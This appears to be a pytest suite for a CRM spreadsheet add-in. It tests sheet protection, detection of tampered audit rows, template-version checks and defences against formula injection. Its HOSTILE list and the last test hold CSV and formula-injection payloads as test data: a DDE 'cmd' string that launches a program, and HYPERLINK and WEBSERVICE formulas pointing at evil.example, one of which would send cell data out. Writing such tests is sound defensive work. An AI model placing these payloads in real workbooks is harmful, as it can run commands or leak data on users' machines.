"""Registers shared by many hands: protection that survives the add-in's writes, verify catching
edits made outside the workflow (openpyxl or LibreOffice), template versions, and text that looks
like a formula staying text in every sheet the add-in writes.
"""
from __future__ import annotations

import shutil
from pathlib import Path

import openpyxl
import pytest

from crm_app.cli.main import main
from crm_app.register.audit import WorkflowCode
from crm_app.register.load import load_register, read_request_form
from crm_app.register.schema import ABOUT, AUDIT, LEDGER, REALLOCATION, REGISTER, TEMPLATE_VERSION
from crm_app.register.workflow import verify
from crm_core.issues import IssueCode
from tests.excel.test_macros import FakeBook, alerts
from tests.support.registers import REFERENCE_BATCH, ROLES, build_register, write_request
from tests.support.signing import sign, signed_register
from udfs.macros import reallocation as macros

HOSTILE = ["=1+1", "+2+3", "-4+5", "@SUM(1,2)", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def demo_data():
    from crm_app.workbook.builder import review_register_data
    from crm_core.demo import demo_ledger
    from crm_core.ledger import normalize_ledger
    from crm_core.policy import Policy

    return review_register_data(normalize_ledger(demo_ledger(seed=2010, customers=40), source="demo"), Policy(), None)


@pytest.fixture
def built(demo_data, tmp_path) -> Path:
    from crm_app.workbook.builder import write_register

    return write_register(demo_data, tmp_path / "register.xlsx")


def protection_map(path: Path) -> dict[str, tuple[bool, frozenset[str]]]:
    """Per sheet: protected or not, and the unlocked (input) cells."""
    book = openpyxl.load_workbook(path)
    return {ws.title: (bool(ws.protection.sheet),
                       frozenset(c.coordinate for row in ws.iter_rows() for c in row if c.protection.locked is False))
            for ws in book.worksheets}


def assert_audit_locked(path: Path) -> None:
    ws = openpyxl.load_workbook(path)[AUDIT]
    p = ws.protection
    assert p.sheet, "the Audit sheet is not protected"
    assert p.deleteRows and p.insertRows and p.deleteColumns, "rows of the Audit sheet may be deleted/inserted"
    assert not [c.coordinate for row in ws.iter_rows() for c in row if c.protection.locked is False]


def apply_suggestion(register: Path, tmp_path: Path, capsys, *extra: str) -> None:
    reg = load_register(register).register
    request = tmp_path / "request.csv"
    assert main(["suggest", str(register), "--amount", "5万", "--for", str(reg["customer"].iloc[1]),
                 "--out", str(request)]) == 0
    assert main(["reallocate", str(register), "--request", str(request), *ROLES, *extra]) == 0, capsys.readouterr()


# ---------------------------------------------------------------- protection


def test_built_register_protects_every_sheet_but_the_ledger_and_locks_the_audit(built):
    sheets = protection_map(built)
    assert {name for name, (protected, _) in sheets.items() if not protected} == {LEDGER}
    assert_audit_locked(built)


def test_demo_output_locks_the_audit_sheet(tmp_path):
    assert main(["demo", "--out", str(tmp_path), "--quiet"]) == 0
    register = next(tmp_path.glob("demo_register.xls*"))
    assert_audit_locked(register)
    assert protection_map(register)[REGISTER][0]


def test_an_apply_keeps_every_sheets_protection_and_locks_the_new_audit_rows(built, tmp_path, capsys):
    sign(built)
    before = protection_map(built)
    assert before["SignOff"] == (True, frozenset())  # the sheet the sign-off adds is protected too
    apply_suggestion(built, tmp_path, capsys)
    assert len(load_register(built).audit) >= 2
    assert protection_map(built) == before
    assert_audit_locked(built)
    assert verify(built) == []


@pytest.mark.libreoffice
def test_libreoffice_sees_the_audit_protected_after_an_apply(built, tmp_path, capsys, soffice):
    from tests.support.libreoffice import recalculated_workbook

    apply_suggestion(sign(built), tmp_path, capsys)
    book = recalculated_workbook(built)
    assert book[AUDIT].protection.sheet and book[REGISTER].protection.sheet
    assert not book[LEDGER].protection.sheet


# ---------------------------------------------------------------- verify: edits outside the workflow


@pytest.fixture
def applied(tmp_path) -> Path:
    """A signed register (sign-off at Audit row 2) with the reference batch at rows 3-6."""
    path = signed_register(tmp_path / "register.xlsx")
    request = write_request(tmp_path / "request.csv", REFERENCE_BATCH)
    assert main(["reallocate", str(path), "--request", str(request), *ROLES, "--batch-id", "S1",
                 "--request-date", "2026-11-01", "--approval-date", "2026-11-02"]) == 0
    assert verify(path) == []
    return path


def edit(path: Path, change) -> None:
    book = openpyxl.load_workbook(path)
    change(book)
    book.save(path)


def found(path: Path) -> set[tuple]:
    return {(p.code, p.source, p.row) for p in verify(path)}


def test_a_forged_audit_row_appended_by_hand_is_detected(applied):
    def forge(book):
        ws = book[AUDIT]
        last = [c.value for c in ws[ws.max_row]]
        last[4], last[5] = 999_999, last[3] + 999_999  # a bigger change, with the old hash copied
        ws.append(last)
    edit(applied, forge)
    problems = found(applied)
    assert (WorkflowCode.HASH_MISMATCH, AUDIT, 7) in problems or (WorkflowCode.CHAIN_BROKEN, AUDIT, 7) in problems
    assert main(["verify", str(applied)]) == 1


def test_two_audit_rows_swapped_are_detected(applied):
    def swap(book):
        ws = book[AUDIT]
        a, b = [c.value for c in ws[2]], [c.value for c in ws[3]]
        for col, (x, y) in enumerate(zip(a, b), start=1):
            ws.cell(row=2, column=col, value=y)
            ws.cell(row=3, column=col, value=x)
    edit(applied, swap)
    assert any(code == WorkflowCode.CHAIN_BROKEN and row in (2, 3) for code, _, row in found(applied))


def test_an_audit_row_blanked_out_is_detected(applied):
    def blank(book):
        for row in book[AUDIT].iter_rows(min_row=3, max_row=3):
            for c in row:
                c.value = None
    edit(applied, blank)
    assert any(code == WorkflowCode.CHAIN_BROKEN for code, _, _ in found(applied))


@pytest.mark.libreoffice
def test_a_libreoffice_resave_alone_still_verifies(applied, tmp_path, soffice):
    """Opening and saving the register in another spreadsheet program is not tampering."""
    from tests.support.libreoffice import recalculate

    resaved = recalculate(applied, tmp_path / "resaved")
    assert verify(resaved) == []


@pytest.mark.libreoffice
@pytest.mark.parametrize("where", ["audit reason", "audit change", "audit row deleted", "register line"])
def test_edits_saved_by_libreoffice_are_detected(applied, tmp_path, soffice, where):
    from tests.support.libreoffice import recalculate

    change = {
        "audit reason": lambda b: b[AUDIT].cell(row=4, column=7, value="nobody asked"),
        "audit change": lambda b: b[AUDIT].cell(row=3, column=5, value=200_000),
        "audit row deleted": lambda b: b[AUDIT].delete_rows(4),
        "register line": lambda b: b[REGISTER].cell(row=4, column=13, value=1_300_000),
    }[where]
    edit(applied, change)
    resaved = recalculate(applied, tmp_path / "resaved")
    problems = verify(resaved)
    assert problems, where
    expected = {"audit reason": (WorkflowCode.HASH_MISMATCH, AUDIT, 4),
                "audit change": (WorkflowCode.HASH_MISMATCH, AUDIT, 3),
                "audit row deleted": (WorkflowCode.CHAIN_BROKEN, AUDIT, 4),
                "register line": (WorkflowCode.LINE_MISMATCH, REGISTER, 4)}[where]
    assert expected in {(p.code, p.source, p.row) for p in problems}


# ---------------------------------------------------------------- template version stamp


def set_template_version(path: Path, value) -> None:
    def change(book):
        ws = book[ABOUT]
        for row in ws.iter_rows(min_row=2):
            if row[0].value == "template_version":
                if value is None:
                    ws.delete_rows(row[0].row)
                else:
                    row[1].value = value
                return
    edit(path, change)


VERSION_CASES = [
    ("older", TEMPLATE_VERSION - 1, "rebuild it"),
    ("newer", TEMPLATE_VERSION + 1, "newer than this crm-addin understands"),
    ("missing", None, "not made from a crm-addin register template"),
    ("unreadable", "v1.x", "not made from a crm-addin register template"),
    ("infinite", "inf", "not made from a crm-addin register template"),
]


@pytest.mark.parametrize("name, value, says", VERSION_CASES, ids=[c[0] for c in VERSION_CASES])
def test_a_register_from_another_template_version_is_refused(tmp_path, capsys, name, value, says):
    register = build_register(tmp_path / "register.xlsx")
    set_template_version(register, value)
    before = register.read_bytes()
    request = write_request(tmp_path / "request.csv")
    assert main(["reallocate", str(register), "--request", str(request), *ROLES]) == 2
    out = capsys.readouterr()
    assert says in out.out + out.err and "template" in out.out + out.err
    assert register.read_bytes() == before
    assert main(["verify", str(register)]) == 1
    out = capsys.readouterr()
    assert says in out.out and "Traceback" not in out.out + out.err
    assert main(["suggest", str(register), "--amount", "1万"]) != 0
    assert says in "".join(capsys.readouterr())


@pytest.mark.parametrize("command", ["verify", "reallocate", "suggest"])
def test_a_workbook_without_about_is_not_a_crm_addin_register(tmp_path, capsys, command):
    register = build_register(tmp_path / "register.xlsx")
    edit(register, lambda b: b.remove(b[ABOUT]))
    request = write_request(tmp_path / "request.csv")
    extra = {"verify": [], "reallocate": ["--request", str(request), *ROLES], "suggest": ["--amount", "1万"]}[command]
    assert main([command, str(register), *extra]) == 2
    said = "".join(capsys.readouterr())
    assert "not a crm-addin register" in said and "register.xlsx" in said and "About" in said


def test_any_other_workbook_is_not_a_crm_addin_register(tmp_path, capsys):
    path = tmp_path / "budget.xlsx"
    openpyxl.Workbook().save(path)
    assert main(["verify", str(path)]) == 2
    assert "not a crm-addin register" in capsys.readouterr().err


# ---------------------------------------------------------------- formula injection in what we write


@pytest.mark.libreoffice
def test_formula_like_reasons_and_roles_stay_text_on_the_audit_sheet(tmp_path, capsys, soffice):
    from tests.support.libreoffice import recalculated_workbook

    register = signed_register(tmp_path / "register.xlsx")
    reasons = [HOSTILE[4], HOSTILE[5], HOSTILE[0], HOSTILE[2]]
    lines = [(c, ch, r) for (c, ch, _), r in zip(REFERENCE_BATCH, reasons)]
    request = tmp_path / "request.csv"
    request.write_text("customer,change,reason\n" + "".join(
        f'{c},"{ch}","{r.replace(chr(34), chr(34) * 2)}"\n' for c, ch, r in lines), encoding="utf-8")
    roles = {"requester": HOSTILE[3], "approver": HOSTILE[1], "recorder": "-Finance Zhao"}
    assert main(["reallocate", str(register), "--request", str(request),
                 *[f"--{k}={v}" for k, v in roles.items()]]) == 0, capsys.readouterr()
    assert verify(register) == []
    ws = recalculated_workbook(register)[AUDIT]
    header = [c.value for c in ws[1]]
    col = {key: header.index(label) for key, label in (("reason", "原因 Reason"), ("requester", "申请人 Requester"),
                                                       ("approver", "审批人 Approver"), ("recorder", "记录人 Recorder"))}
    rows = list(ws.iter_rows(min_row=3))  # below the sign-off's entry
    assert [r[col["reason"]].value for r in rows] == reasons
    for key, value in roles.items():
        assert {r[col[key]].value for r in rows} == {value}
    assert all(r[k].data_type == "s" for r in rows for k in col.values())


@pytest.mark.libreoffice
def test_formula_like_names_stay_text_on_every_sheet_of_a_built_register(tmp_path, capsys, soffice):
    from tests.support.libreoffice import recalculated_workbook

    ledger = tmp_path / "hostile.csv"
    rows = ["date,customer,customer_name,type,amount"]
    for n, name in enumerate(HOSTILE):
        quoted = '"' + name.replace('"', '""') + '"'
        rows.append(f"2024-01-0{n + 1},{quoted},{quoted},invoice,{100 * (n + 1)}")
        rows.append(f"2024-02-0{n + 1},{quoted},{quoted},receipt,{50 * (n + 1)}")
    ledger.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "register.xlsx"
    assert main(["review", str(ledger), "--year", "2024", "--out", str(out), "--quiet"]) == 0, capsys.readouterr()
    written = openpyxl.load_workbook(out)
    for ws in written.worksheets:  # nothing the user typed became a formula in the file
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert not any(str(c.value).startswith(h) for h in HOSTILE), (ws.title, c.coordinate)
    computed = recalculated_workbook(out)
    seen: dict[str, set[str]] = {}
    for ws in computed.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value in HOSTILE:
                    assert c.data_type == "s", (ws.title, c.coordinate)
                    seen.setdefault(c.value, set()).add(ws.title)
    assert set(seen) == set(HOSTILE)
    assert all({REGISTER, LEDGER} <= sheets for sheets in seen.values()), seen
    register = computed[REGISTER]
    assert sorted(register.cell(row=r, column=1).value for r in range(2, 2 + len(HOSTILE))) == sorted(HOSTILE)


def test_the_suggest_macro_writes_formula_like_text_into_the_form_as_text(tmp_path, monkeypatch):
    """Excel enters a value written through xlwings as if typed: '=...' would become a formula."""
    register = build_register(tmp_path / "register.xlsx")
    typed = {(REGISTER, "A7"): "=C7", (REALLOCATION, "A11"): "=C7", (REALLOCATION, "B11"): 100000,
             (REALLOCATION, "C11"): "=HYPERLINK(\"x\")", (REALLOCATION, "B3"): "Sales Director Wang",
             (REALLOCATION, "B4"): "GM Li", (REALLOCATION, "B5"): "Finance Zhao"}

    def type_in(book):  # what a user typing '=C7 (with Excel's apostrophe) leaves in the file
        for (sheet, address), value in typed.items():
            cell = book[sheet][address]
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
    edit(register, type_in)
    request, _ = read_request_form(openpyxl.load_workbook(register))
    assert list(request.lines["customer"]) == ["=C7"]  # the form reads back what was typed
    log: list = []
    book = FakeBook(register, log)
    monkeypatch.setattr(macros, "_caller", lambda: book)
    assert macros.suggest_reallocation_cuts() > 0, alerts(log)
    written = [v for v in book.sheets[REALLOCATION].cells.values() if isinstance(v, str)]
    assert "'=C7" in written and "'=HYPERLINK(\"x\")" in written
    assert not [v for v in written if v[:1] in ("=", "+", "-", "@")]


def test_excel_text_marks_only_formula_like_text():
    assert [macros.excel_text(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert macros.excel_text("C7") == "C7" and macros.excel_text(-5.0) == -5.0 and macros.excel_text(None) is None


def test_register_copy_with_a_backup_and_the_original_both_verify(applied, tmp_path):
    """The .bak the writer keeps is a complete earlier register, refused by nothing."""
    backup = Path(str(applied) + ".bak")
    copy = tmp_path / "restored.xlsx"
    shutil.copy(backup, copy)
    assert verify(copy) == [] and verify(applied) == []


def test_a_register_is_read_as_values_external_links_and_web_calls_are_not_followed(tmp_path):
    """Formulas planted in a register are never evaluated by the add-in: without a cached value
    the cell is reported blank, and nothing is fetched."""
    register = build_register(tmp_path / "register.xlsx")

    def plant(book):
        book[REGISTER]["M4"] = "='[other.xlsx]Sheet1'!$A$1"                     # B5's credit line
        book[REGISTER]["B5"] = '=WEBSERVICE("http://evil.example/?x="&A5)'     # B117's name
    edit(register, plant)
    problems = {(p.code, p.source, p.row, p.column) for p in verify(register)}
    assert (IssueCode.BLANK, REGISTER, 4, "赊销额度 Credit line") in problems
    assert WorkflowCode.BUDGET_MISMATCH in {p[0] for p in problems}
    assert main(["verify", str(register)]) == 1
